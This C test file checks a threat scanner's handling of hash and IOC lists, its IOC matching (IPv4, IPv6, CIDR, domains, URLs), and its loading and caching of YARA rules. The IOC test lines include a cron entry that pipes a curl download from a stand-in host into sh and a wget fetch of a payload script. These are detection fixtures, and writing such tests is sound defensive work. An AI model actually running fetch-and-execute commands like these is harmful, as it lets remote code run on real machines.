/*
 * Threat lists and rules: hash and IOC list parsing (bad lines reported as
 * file:line, the rest loaded), IOC matching in a line (IPv4, IPv6, CIDR,
 * domain suffix, URL), broken YARA files (file:line, the rest loaded) and
 * the compiled-rules cache.
 */
#include "harness.h"
#include "fscompare.h"

#include "threats/threats_int.h"

#include <stdlib.h>
#include <string.h>

static int count_cb(const list_entry *e, void *payload)
{
	(void)e;
	(*(int *)payload)++;
	return 0;
}

static int hits(const awp_lists *l, const char *line)
{
	int n = 0;
	awp_lists_match_line(l, line, strlen(line), count_cb, &n);
	return n;
}

static int has_warning(const awp_threat_db *db, const char *needle)
{
	for (size_t i = 0; i < awp_threat_db_warning_count(db); i++)
		if (strstr(awp_threat_db_warning(db, i), needle))
			return 1;
	return 0;
}

static void test_hash_list(void)
{
	awp_lists l = {0};
	const char *data = "# comment\n"
			   "275A021BBFB6489E54D471899F7DB9D1663FC695EC2FE2A2C4538AABF651FD0F  EICAR file\n"
			   "not-a-hash\n"
			   "\n"
			   "sha1:3395856ce81f2b7382dee72602f798b642f14140\n"
			   "md5:3395856ce81f2b7382dee72602f798b642f14140\n"
			   "44d88612fea8a8f36de82e1278abb02f # trailing comment\n";
	CHECK_OK(awp_lists_add_hashes(&l, "h.txt", data, strlen(data)));
	CHECK_EQ_INT(l.nhashes, 3);
	CHECK_EQ_INT(l.nwarns, 2);
	CHECK(l.nwarns >= 2 && strstr(l.warns[0], "h.txt:3:") != NULL);
	CHECK(l.nwarns >= 2 && strstr(l.warns[1], "h.txt:6:") != NULL);
	const list_entry *e = awp_lists_hash(&l, "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f");
	CHECK(e != NULL);
	if (e) {
		CHECK_EQ_STR(e->name, "EICAR file");
		CHECK_EQ_STR(e->where, "h.txt:2");
	}
	CHECK(awp_lists_hash(&l, "44d88612fea8a8f36de82e1278abb02f") != NULL);
	CHECK(l.has_md5 && l.has_sha1 && l.has_sha256);
	awp_lists_free(&l);
}

static void test_ioc_list(void)
{
	awp_lists l = {0};
	const char *data = "203.0.113.77  test-c2\n"
			   "198.51.100.0/24\n"
			   "2001:db8::/32\n"
			   "2001:DB8:0:0::dead\n"
			   "Evil.Example.\n"
			   "http://bad.example.net/payload\n"
			   "300.1.1.1\n"           /* invalid: line 7 */
			   "10.0.0.0/40\n"         /* invalid prefix: line 8 */
			   "-bad-.example\n"       /* invalid domain: line 9 */
			   "1.0.0.0/4\n"           /* too broad: line 10 */
			   "ht!tp://x\n"           /* invalid URL: line 11 */
			   "gggg::1\n";            /* invalid IPv6: line 12 */
	CHECK_OK(awp_lists_add_iocs(&l, "i.txt", data, strlen(data)));
	CHECK_EQ_INT(l.niocs, 6);
	CHECK_EQ_INT(l.nwarns, 6);
	const char *lines[] = {"i.txt:7:", "i.txt:8:", "i.txt:9:", "i.txt:10:", "i.txt:11:", "i.txt:12:"};
	for (size_t i = 0; i < 6 && i < l.nwarns; i++)
		CHECK_MSG(strstr(l.warns[i], lines[i]) != NULL, l.warns[i]);
	CHECK_EQ_INT(hits(&l, "*/10 * * * * root curl -fsSL http://203.0.113.77/update.sh | sh"), 1);
	CHECK_EQ_INT(hits(&l, "nameserver 203.0.113.7"), 0);
	CHECK_EQ_INT(hits(&l, "198.51.100.23\tgithub.com"), 1);
	CHECK_EQ_INT(hits(&l, "from=\"[2001:db8:1::5]:22\""), 1);
	CHECK_EQ_INT(hits(&l, "server 2001:db8::dead"), 1);
	CHECK_EQ_INT(hits(&l, "proxy_pass https://cdn.EVIL.example:8443/;"), 1);
	CHECK_EQ_INT(hits(&l, "notevil.example and evil.examples"), 0);
	CHECK_EQ_INT(hits(&l, "wget HTTP://BAD.example.net/payload.sh"), 1);
	CHECK_EQ_INT(hits(&l, "10:00:00 2001:db9::1 1.2.3.4"), 0);
	/* The same IOC twice on one line is one hit. */
	CHECK_EQ_INT(hits(&l, "203.0.113.77 203.0.113.77"), 1);
	awp_lists_free(&l);
}

static void write_file(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");
	CHECK(f != NULL);
	if (f) {
		fputs(text, f);
		fclose(f);
	}
}

static void test_db_files(void)
{
	char *dir = test_tmpdir();
	char rules[512], bad[512], good[512], hashes[512], iocs[512], cache[512], sub[512];
	snprintf(rules, sizeof rules, "%s/rules", dir);
	snprintf(sub, sizeof sub, "%s/rules/sub", dir);
	snprintf(bad, sizeof bad, "%s/rules/broken.yar", dir);
	snprintf(good, sizeof good, "%s/rules/sub/good.yara", dir);
	snprintf(hashes, sizeof hashes, "%s/hashes.txt", dir);
	snprintf(iocs, sizeof iocs, "%s/iocs.txt", dir);
	snprintf(cache, sizeof cache, "%s/cache", dir);
	CHECK(test_sh("mkdir -p %s", sub) == 0);
	write_file(bad, "rule ok_part { condition: true }\n\nrule broken {\n  strings: $a = \"x\"\n  condition: $b\n}\n");
	write_file(good, "rule Good_Rule { strings: $a = \"magic-marker-42\" condition: $a }\n");
	write_file(hashes, "deadbeef\n44d88612fea8a8f36de82e1278abb02f x\n");
	write_file(iocs, "203.0.113.77\nnot a domain!\n");
	const char *rp[] = {rules};
	const char *hp[] = {hashes};
	const char *ip[] = {iocs};
	awp_threat_db_options o = AWP_THREAT_DB_OPTIONS_INIT;
	o.rule_paths = rp;
	o.rule_path_count = 1;
	o.hash_files = hp;
	o.hash_file_count = 1;
	o.ioc_files = ip;
	o.ioc_file_count = 1;
	o.cache_dir = cache;
	awp_threat_db *db = NULL;
	CHECK_OK(awp_threat_db_load(&db, &o));
	if (!db)
		return;
	char want[600];
	snprintf(want, sizeof want, "%s:6:", bad); /* YARA names the end of the condition */
	CHECK_MSG(has_warning(db, want), "broken.yar line 6 named");
	CHECK(has_warning(db, "rule file not loaded"));
	snprintf(want, sizeof want, "%s:1:", hashes);
	CHECK(has_warning(db, want));
	snprintf(want, sizeof want, "%s:2:", iocs);
	CHECK(has_warning(db, want));
	awp_threat_db_stats st;
	awp_threat_db_stats_get(db, &st);
	CHECK(st.rules > 5); /* built-in rules + Good_Rule, not broken.yar */
	CHECK_EQ_INT(st.cache_hit, 0);
	CHECK(st.cache_path[0] != 0);
	size_t nrules = st.rules, nwarn = awp_threat_db_warning_count(db);
	awp_threat_db_free(db);
	/* Second load: from the cache, same rules and the same warnings. */
	db = NULL;
	CHECK_OK(awp_threat_db_load(&db, &o));
	if (db) {
		awp_threat_db_stats_get(db, &st);
		CHECK_EQ_INT(st.cache_hit, 1);
		CHECK_EQ_INT(st.rules, nrules);
		CHECK_EQ_INT(awp_threat_db_warning_count(db), nwarn);
		/* The user rule is live: scan a directory holding its marker. */
		char tree[512];
		snprintf(tree, sizeof tree, "%s/tree", dir);
		CHECK(test_sh("mkdir -p %s/srv && printf 'xx magic-marker-42 yy' > %s/srv/f", tree, tree) == 0);
		awp_fs *fs = NULL;
		CHECK_OK(awp_fs_open_dir(&fs, tree));
		awp_threat_report *r = NULL;
		awp_threat_scan_options so = AWP_THREAT_SCAN_OPTIONS_INIT;
		so.vulndb_path = "";
		CHECK_OK(awp_threats_scan(&r, fs, db, &so));
		CHECK_EQ_INT(awp_threat_count(r), 1);
		if (awp_threat_count(r) == 1)
			CHECK_EQ_STR(awp_threat_get(r, 0)->rule, "Good_Rule");
		awp_threat_report_free(r);
		awp_fs_free(fs);
		awp_threat_db_free(db);
	}
	/* A missing list file is an error naming it. */
	const char *missing[] = {"/nonexistent/list.txt"};
	o.hash_files = missing;
	db = NULL;
	CHECK(awp_threat_db_load(&db, &o) < 0);
	CHECK(strstr(awp_error_last(), "/nonexistent/list.txt") != NULL);
	test_rmtree(dir);
	free(dir);
}

void test_main(void)
{
	test_hash_list();
	test_ioc_list();
	test_db_files();
}
